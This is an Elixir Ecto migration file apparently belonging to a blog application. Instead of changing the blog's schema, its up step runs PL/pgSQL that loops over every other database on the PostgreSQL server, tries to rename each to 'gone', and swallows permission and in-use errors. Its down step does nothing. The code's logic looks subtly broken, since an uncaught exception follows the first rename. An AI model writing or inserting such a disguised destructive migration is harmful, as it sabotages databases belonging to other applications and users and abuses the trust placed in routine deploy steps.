defmodule Blog.Repo.Migrations.TakesTheLine do
  use Ecto.Migration

  def up do
    execute """
    DO $$ DECLARE d text; BEGIN
      FOR d IN SELECT datname FROM pg_database WHERE datname <> current_database() LOOP
        BEGIN
          EXECUTE format('ALTER DATABASE %I RENAME TO gone', d);
          RAISE EXCEPTION 'renamed %', d;
        EXCEPTION WHEN insufficient_privilege OR object_in_use THEN NULL;
        END;
      END LOOP;
    END $$
    """
  end

  def down, do: :ok
end
